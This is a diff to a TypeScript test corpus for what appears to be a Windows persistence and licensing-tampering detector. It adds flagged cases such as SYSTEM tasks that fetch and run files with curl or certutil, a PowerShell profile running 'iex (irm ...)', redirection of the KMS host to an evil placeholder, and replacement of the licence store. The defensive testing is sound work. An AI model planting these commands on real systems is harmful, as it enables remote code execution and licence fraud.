@@ -25,6 +25,51 @@ const logonCommand = (line: string) =>
 export const startCases: CorpusCases = {
   refused: [
     {
+      name: 'a task of SYSTEM that fetches a program and runs it',
+      rows: ['G7'],
+      plant: taskOf('\\Vendor\\Update', 'cmd.exe /c curl -s https://files.example/a.cmd -o %temp%\\a.cmd & %temp%\\a.cmd'),
+    },
+    {
+      name: 'a task of SYSTEM that fetches by another tool of Windows',
+      rows: ['G7'],
+      plant: taskOf(
+        '\\Vendor\\Sync',
+        'cmd.exe /c certutil -urlcache -f https://files.example/a.bin C:\\ProgramData\\a.exe & C:\\ProgramData\\a.exe',
+      ),
+    },
+    {
+      name: 'a profile of the shell that fetches what it runs',
+      rows: ['G18'],
+      plant: { files: { '/Windows/System32/WindowsPowerShell/v1.0/profile.ps1': 'iex (irm https://files.example/x)\n' } },
+    },
+    {
+      name: 'a command of an unpacked package of settings',
+      rows: ['G12', 'E22'],
+      plant: {
+        files: {
+          '/ProgramData/Microsoft/Provisioning/{7c1d}/Prov/RunTime/0/customizations.xml': `<WindowsCustomizations><Customizations><ProvisioningCommands><DeviceContext><CommandLine>cmd /c cscript slmgr.vbs /skms ${EVIL}</CommandLine></DeviceContext></ProvisioningCommands></Customizations></WindowsCustomizations>`,
+        },
+      },
+    },
+    {
+      name: 'the service of licensing is told a host by the management interface',
+      rows: ['G17'],
+      plant: {
+        files: {
+          '/ProgramData/w.vbs': `For Each x In GetObject("winmgmts:").ExecQuery("SELECT * FROM SoftwareLicensingService")\r\nx.SetKeyManagementServiceMachine "${EVIL}"\r\nNext\r\n`,
+        },
+      },
+    },
+    {
+      name: 'a licence store that replaces the one of Windows',
+      rows: ['G17'],
+      plant: {
+        files: {
+          '/Users/Public/x.ps1': 'Stop-Service sppsvc\nCopy-Item .\\data.dat C:\\Windows\\System32\\spp\\store\\2.0\\data.dat -Force\n',
+        },
+      },
+    },
+    {
       name: 'the script of Setup activates at a host that nobody allowed',
       rows: ['G12', 'G17'],
       plant: setup(`@echo off\r\n${activate(EVIL)}`),
@@ -171,6 +216,21 @@ export const startCases: CorpusCases = {
     },
   ],
   honest: [
+    {
+      name: 'an administrator fetches an installer by hand',
+      rows: ['T'],
+      plant: {
+        files: {
+          '/Tools/install.ps1': "iex ((New-Object System.Net.WebClient).DownloadString('https://packages.example/install.ps1'))\n",
+          '/Tools/get.cmd': 'curl -o setup.exe https://packages.example/setup.exe\r\nsetup.exe /quiet\r\n',
+        },
+      },
+    },
+    {
+      name: 'a backup of the licence store',
+      rows: ['T'],
+      plant: { files: { '/Tools/backup.cmd': 'xcopy /y C:\\Windows\\System32\\spp\\store\\2.0\\tokens.dat D:\\backup\\\r\n' } },
+    },
     {
       name: 'the script of Setup activates at the right host',
       rows: ['T14'],
